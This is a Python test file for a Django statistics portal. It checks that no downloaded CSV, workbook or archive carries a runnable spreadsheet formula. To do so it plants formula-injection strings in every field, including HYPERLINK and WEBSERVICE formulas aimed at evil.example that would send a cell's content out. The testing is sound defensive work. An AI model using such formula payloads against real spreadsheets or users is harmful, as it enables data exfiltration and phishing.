"""No file that the site gives runs a formula: hostile texts stand in every field a person can type, and all are read.

The files are found by walking the addresses of the permission table, so that a new one is read too.
"""

from __future__ import annotations

import csv
import io
import re
import warnings
import zipfile
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from django.urls import NoReverseMatch, reverse
from django.utils import timezone

from mezon.model.spreadsheet_text import FORMULA_STARTS
from mezon.web.accounts.acting import Actor
from mezon.web.api.released import id_of
from mezon.web.portal.downloads import ENDINGS
from mezon.web.warehouse.models import ReleaseRecord
from tests.web.desk.conftest import entry, later, stored  # noqa: F401 - fixtures
from tests.web.desk.pack_files import still_collected, with_form
from tests.web.desk.reviewed import somebody
from tests.web.people import sign_in
from tests.web.permission_objects import MAKERS, STATES, World, build
from tests.web.permission_table import LINES
from tests.web.test_permissions import VIEWS, address_of

pytestmark = [pytest.mark.django_db, pytest.mark.filterwarnings("ignore::UserWarning:openpyxl")]

#: By this a planted text is known wherever it comes out.
MARK = "PLANTED"
HOSTILE = [f"{start}{MARK}" for start in FORMULA_STARTS if start.strip()]
LINK = f'=HYPERLINK("http://evil.example";"{MARK}")'
CSV, XLSX, ZIP = "text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "application/zip"
#: The workbook of a form counts what is filled in: the formulas that the site writes itself.
OWN_FORMULA = ("<f>SUMPRODUCT(--(LEN(", "<f>IF(C10=0,1,D10/C10)<")
#: The release itself, byte for byte as its checksums say: definitions that statisticians wrote, values as Parquet.
RELEASE = "release"
#: Every address that gives a spreadsheet, or an archive of some.
FILES = {
    "audit:export_csv", "desk:annotated", "desk:table", "desk:workbook", "desk:working-file", "portal:download",
    "portal:indicator_file", "portal:picture_table", "portal:table", "portal:trace_file", "portal:what_if_table",
    "api:observations", "api:scores", "desk:definition-file",
}  # fmt: skip


@pytest.fixture
def desk_pack(first_pack: Path) -> Path:
    """Give the desk's pack with hostile texts wherever a pack holds words."""
    folder = still_collected(with_form(first_pack))
    for name in ("units.csv", "indicators.toml", "sources.toml", "forms/annual.toml", "pack.toml"):
        path = folder / name
        text = path.read_text(encoding="utf-8")
        for place, words in enumerate(("Enterprise A", "R&D spending", "Annual return", "Money", "Patents granted")):
            text = text.replace(words, f"{HOSTILE[place % len(HOSTILE)]} {words}")
        path.write_text(text, encoding="utf-8")
    with (folder / "observations.csv").open("r+", encoding="utf-8") as file:
        header, *rows = file.read().splitlines()
        file.seek(0)
        file.write(f"{header},source_ref,note\n" + "".join(
            f"{row},{HOSTILE[number % len(HOSTILE)]} {number},{HOSTILE[(number + 1) % len(HOSTILE)]}\n"
            for number, row in enumerate(rows)
        ))  # fmt: skip
    return folder


@pytest.fixture
def world(stored: Any, settings: Any, tmp_path: Path) -> World:  # noqa: F811
    """Give the world of the permission table, with a hostile release that is public, and hostile people."""
    settings.HOME = tmp_path / "home"
    settings.HOME.mkdir()
    settings.PACKS = (stored.code,)
    made = build(stored)
    for number, person in enumerate(made.people.values()):
        person.name = HOSTILE[number % len(HOSTILE)]
        person.save()
    _release(stored)
    return made


def _release(pack: Any) -> None:
    from mezon.web.accounts.policy import Target
    from mezon.web.desk import acts_freezing
    from mezon.web.desk.freezing import checklist

    saida = somebody("statistician", _Of(pack), "saida")  # type: ignore[arg-type]
    where = Target(pack=pack.code)
    for question in checklist(pack).unanswered:
        acts_freezing.answer_warning(saida, where, pack=pack, finding=question.digest, text=LINK, now=later(50))
    asked = acts_freezing.ask_freezing(
        saida, where, checked=checklist(pack), label=HOSTILE[0], notes=LINK, now=later(60)
    )
    acts_freezing.publish(saida, acts_freezing.carry_out(saida, asked, now=later(61)), now=later(62), reason=LINK)


class _Of:
    """What `somebody` asks of a submission: its pack."""

    def __init__(self, pack: Any) -> None:
        self.pack = pack


def _typed(world: World, number: int) -> None:
    """Type hostile texts into everything that one return takes."""
    from mezon.web.desk import acts_filling
    from mezon.web.desk.models import Submission

    found = Submission.objects.get(pk=number)
    actor = Actor.of(world.people["provider"], now=timezone.now(), second_factor=True)
    entries = [entry(found, code, text, note=note, status=status) for code, text, note, status in (
        ("RD_SPEND", LINK, HOSTILE[0], ""), ("TOTAL_SPEND", "", HOSTILE[1], "O"), ("PATENTS", "-3", HOSTILE[2], ""),
    )]  # fmt: skip
    acts_filling.save_cells(actor, found, entries=entries, now=timezone.now(), reason=LINK)
    cell = found.cells.get(indicator="RD_SPEND").pk
    acts_filling.comment(actor, found, cell=cell, text=LINK, now=timezone.now())
    acts_filling.attach_evidence(actor, found, cell=cell, name=f"{LINK}.pdf", content=b"%PDF-1.4", now=timezone.now())


def _as(person: Any) -> Client:
    client = Client(raise_request_exception=False)
    sign_in(client, person)
    return client


def _asked(world: World) -> Iterator[tuple[str, Any, bytes]]:
    """Ask every address of the table by somebody who may; then the files that need words of their own."""
    for line in LINES:
        if line.method != "GET":
            continue
        # What the line before made is undone, in the database and in hand.
        world.pack.refresh_from_db()
        with transaction.atomic():
            words = MAKERS[line.of](world, STATES[line.of][0]) if line.of else {}
            if line.of in {"submission", "upload", "workbook upload"}:
                _typed(world, words["number"])
            who = next((role for role in ("statistician", "administrator", "provider") if role in line.who), "provider")
            with suppress(NoReverseMatch):
                answer = _as(world.people[who]).get(address_of(VIEWS[line.name], words))
                yield line.name, answer, _content(answer)
            transaction.set_rollback(True)
    release = id_of(ReleaseRecord.objects.get(pack=world.pack.code))
    somebody_else = Client(raise_request_exception=False)
    for name, address in (
        ("portal:indicator_file", reverse("portal:indicator_file", args=["RD_SPEND"])),
        ("portal:trace_file", reverse("portal:trace_file") + "?indicator=RD_SPEND&unit=A&period=2024"),
        ("portal:trace_file", reverse("portal:trace_file") + "?unit=A&period=2024"),
        *(("portal:picture_table", reverse("portal:picture_table", args=[name])) for name in _pictures()),
        ("portal:what_if_table", reverse("portal:what_if_table")),
        *(("portal:table", reverse("portal:table", args=[name])) for name in ("observations", "units", "sources")),
        *(("portal:download", reverse("portal:download", args=[ending])) for ending in ENDINGS if ending != RELEASE),
        ("api:observations", f"/api/v1/releases/{release}/observations?format=csv"),
        ("api:scores", f"/api/v1/releases/{release}/scores?format=csv"),
    ):
        for headers in ({}, {"Accept": CSV}):
            answer = somebody_else.get(address, headers=headers)
            yield name, answer, _content(answer)


def _content(answer: Any) -> bytes:
    return b"".join(answer.streaming_content) if answer.streaming else answer.content


def _pictures() -> list[str]:
    from mezon.web.portal.views.pictures import PICTURES

    return sorted(PICTURES)


def _running(content: bytes, kind: str) -> list[str]:
    """Give every cell of a file that a spreadsheet would run."""
    if kind == CSV:
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
        return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and not _harmless(cell)]
    if kind == ZIP:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            return [cell for name in archive.namelist() if name.endswith(".csv") for cell in
                    _running(archive.read(name), CSV)]  # fmt: skip
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    formulas = [found.decode() for sheet in sheets for found in re.findall(rb"<f[ >].*?</f>", sheet)]
    links = [found.decode() for sheet in sheets for found in re.findall(rb"<hyperlink [^>]*r:id=[^>]*>", sheet)]
    return [*(one for one in formulas if not one.startswith(OWN_FORMULA)), *links]


def _harmless(cell: str) -> bool:
    """A number, or a sign by itself such as the qualifier "="."""
    try:
        float(cell)
    except ValueError:
        return len(cell) == 1
    return True


def test_no_file_that_the_site_gives_runs_a_formula(world: World) -> None:
    found: dict[str, int] = {}
    wrong: list[str] = []
    for name, answer, content in _asked(world):
        assert answer.status_code < 500, name
        kind = answer.get("Content-Type", "").partition(";")[0]
        if answer.status_code != 200 or kind not in {CSV, XLSX, ZIP}:
            continue
        wrong += [f"{name}: {cell!r}" for cell in _running(content, kind)]
        planted = MARK.encode() in content or kind != CSV
        found[name] = found.get(name, 0) + planted
    assert not wrong, wrong[:20]
    assert set(found) == FILES
    # Scores are codes and numbers, what if is of scores, and the definition is one without words; everywhere else what
    # was planted must have come out.
    assert {name for name, planted in found.items() if not planted} <= {
        "api:scores", "portal:what_if_table", "desk:definition-file",
    }  # fmt: skip


def test_a_reviewer_gets_a_checked_copy_without_the_formulas_of_whoever_sent_it(world: World) -> None:
    words = MAKERS["submission"](world, "draft")
    provider = _as(world.people["provider"])
    book = openpyxl.load_workbook(io.BytesIO(provider.get(reverse("desk:workbook", args=[words["number"]])).content))
    sheet = book.create_sheet("mine")
    sheet["A1"], sheet["A2"] = '=WEBSERVICE("http://evil.example/?"&B1)', "plain"
    sheet["A3"].hyperlink = "http://evil.example/"
    kept = io.BytesIO()
    book.save(kept)
    file = SimpleUploadedFile("a.xlsx", kept.getvalue())
    sent = provider.post(reverse("desk:upload", args=[words["number"]]), {"file": file})
    assert sent.status_code == 302, sent.content.decode()[-500:]
    address = f"{sent['Location']}annotated/"
    own, theirs = (client.get(address).content for client in (provider, _as(world.people["reviewer"])))
    assert _running(own, XLSX)
    assert not _running(theirs, XLSX)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        copy = openpyxl.load_workbook(io.BytesIO(theirs))
    assert copy["mine"]["A2"].value == "plain"
    assert copy["mine"]["A1"].value is None
    assert b"evil.example" not in b"".join(_parts(theirs))


def _parts(content: bytes) -> list[bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [archive.read(name) for name in archive.namelist() if name.endswith((".rels", "sheet3.xml"))]
